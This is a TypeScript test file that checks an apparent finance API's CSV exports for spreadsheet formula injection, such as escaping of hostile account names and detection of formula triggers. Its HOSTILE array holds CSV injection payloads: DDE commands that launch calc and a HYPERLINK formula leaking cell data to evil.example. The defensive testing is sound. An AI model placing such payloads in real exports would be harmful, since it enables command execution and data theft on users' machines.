// Every CSV export is safe to open in a spreadsheet (issue 18 item 14). The exports are
// found from the route registry: an operation whose response is published as text/csv,
// or whose JSON envelope declares its `mediaType` as text/csv. Each has a scenario here
// that plants hostile values through the API in every free-text field that reaches the
// CSV; no cell of the document may start with a formula trigger (OWASP: = + - @ tab CR,
// plus LF and the full-width forms) unless it is a plain decimal number such as an
// amount ("-1234.50" stays a number for accountants).
import { test, expect, afterAll, describe } from "bun:test";
import Papa from "papaparse";
import { allRoutes } from "../../src/routes.ts";
import { buildOpenApiDocument } from "../../src/platform/openapi/document.ts";
import { MutableClock } from "../harness.ts";
import { partnerKit } from "../kit.ts";

const HOSTILE = [
  "-1+1+cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
  "+SUM(1,1)",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "＝1+1",
  "-1+1",
];
const TRIGGER = /^[=+\-@\t\r\n＝＋－＠]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

const clock = new MutableClock(new Date("2026-03-20T09:00:00.000Z"));
const api = await partnerKit({ clock, tickMs: 1000, users: { boss: "admin", mgr: "manager" } });
afterAll(() => api.close());
const eur = (amount: string) => ({ amount, currency: "EUR" });

type Doc = { paths: Record<string, Record<string, { operationId: string; responses: Record<string, { content?: Record<string, { schema?: Schema }> }> }>>; components: { schemas: Record<string, Schema> } };
type Schema = { $ref?: string; properties?: Record<string, Schema>; enum?: unknown[]; const?: unknown };

/** operationIds of the operations whose success response is a CSV document, from the registry's OpenAPI documents. */
function csvExports(): string[] {
  const found = new Set<string>();
  for (const family of ["assets", "planning"] as const) {
    const doc = JSON.parse(JSON.stringify(buildOpenApiDocument(family, allRoutes))) as Doc;
    const resolve = (s: Schema | undefined): Schema | undefined => (s?.$ref ? doc.components.schemas[s.$ref.split("/").pop()!] : s);
    const isCsv = (v: unknown) => typeof v === "string" && v.startsWith("text/csv");
    for (const ops of Object.values(doc.paths)) {
      for (const op of Object.values(ops)) {
        for (const [status, res] of Object.entries(op.responses ?? {})) {
          if (!status.startsWith("2")) continue;
          for (const [mediaType, content] of Object.entries(res.content ?? {})) {
            const declared = resolve(content.schema)?.properties?.mediaType;
            if (isCsv(mediaType) || (declared && ([declared.const, ...(declared.enum ?? [])] as unknown[]).some(isCsv))) found.add(op.operationId);
          }
        }
      }
    }
  }
  return [...found].sort();
}

/** Every cell of a CSV document. */
function cells(document: string): string[] {
  const parsed = Papa.parse(document, { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data.flat();
}

async function depreciationBook() {
  const mgr = api.as("mgr");
  const boss = api.as("boss");
  const draft = await mgr.create("/policies", { type: "depreciation", document: { default: { method: "straight_line", usefulLifeMonths: 60, convention: "full_month" } } });
  expect((await mgr.post(`/policies/${draft.id}/submit`, { revision: 1 })).status).toBe(200);
  expect((await boss.post(`/policies/${draft.id}/decision`, { decision: "approve", reason: "finance rules", expectedRevision: 1 })).status).toBe(200);
  const book = await boss.create("/finance/books", { name: "Statutory", functionalCurrency: "EUR", policyId: draft.id });
  const jan = await boss.create("/finance/periods", { bookId: book.id, name: "jan", startsOn: "2026-01-01", endsOn: "2026-01-31" });
  return { policyId: draft.id as string, bookId: book.id as string, janId: jan.id as string };
}

/** Each scenario plants HOSTILE through the API and answers the CSV documents it exported. */
const scenarios: Record<string, () => Promise<{ documents: string[]; planted: string[] }>> = {
  // Free text reaching the journal CSV: the account names of a batch's chart overrides.
  async exportJournalBatch() {
    const mgr = api.as("mgr");
    const boss = api.as("boss");
    const { policyId, bookId, janId } = await depreciationBook();
    const itemId = (await api.seed.activeAsset({ name: "Forklift" })).id;
    for (const [kind, side, amount] of [["acquisition", "debit", "12000.00"], ["impairment", "credit", "1234.50"]] as const) {
      const created = await mgr.create("/finance/value-entries", { bookId, periodId: janId, policyId, itemId, kind, [side]: eur(amount), valueDate: "2026-01-10" });
      expect((await boss.post(`/workflow-cases/${created.id}/decision`, { decision: "approve", reason: "booked", expectedVersion: 1 })).status).toBe(200);
    }
    await boss.create("/finance/depreciation", { bookId, itemId, cost: eur("12000.00"), residualValue: eur("0.00"), startDate: "2026-01-01" });
    expect((await boss.post(`/finance/depreciation/${bookId}/run`, { periodId: janId })).status).toBe(200);
    expect((await boss.post(`/finance/periods/${janId}/close`, {})).status).toBe(200);
    const pair = (i: number, code: string) => ({ account: `${code}-A`, accountName: HOSTILE[i]!, counterAccount: `${code}-C`, counterAccountName: HOSTILE[i + 1]! });
    const batch = await boss.create("/finance/journal-batches", { bookId, periodId: janId, accounts: { acquisition: pair(0, "ACQ"), impairment: pair(2, "IMP"), depreciation: pair(4, "DEP") } });
    const res = await boss.post(`/finance/journal-batches/${batch.id}/export`, {});
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.mediaType).toStartWith("text/csv");
    return { documents: [res.body.document], planted: HOSTILE };
  },
};

describe("CSV exports", () => {
  test("every CSV export of the registry has a hostile-input scenario here (and nothing else does)", () => {
    expect(csvExports()).toEqual(Object.keys(scenarios).sort());
  });

  for (const [operationId, scenario] of Object.entries(scenarios)) {
    test(`${operationId}: no cell starts with a formula trigger unless it is a plain number; planted values arrive escaped`, async () => {
      const { documents, planted } = await scenario();
      expect(documents.length).toBeGreaterThan(0);
      const all = documents.flatMap(cells);
      for (const cell of all) if (TRIGGER.test(cell)) expect(cell, `cell ${JSON.stringify(cell)}`).toMatch(PLAIN_NUMBER);
      // Each planted value reached the CSV, as text: a leading apostrophe, nothing lost.
      for (const value of planted) expect(all, value).toContain(`'${value}`);
      // Amounts stay numbers for accountants.
      expect(all.filter((c) => PLAIN_NUMBER.test(c)).length).toBeGreaterThan(0);
    });
  }
});
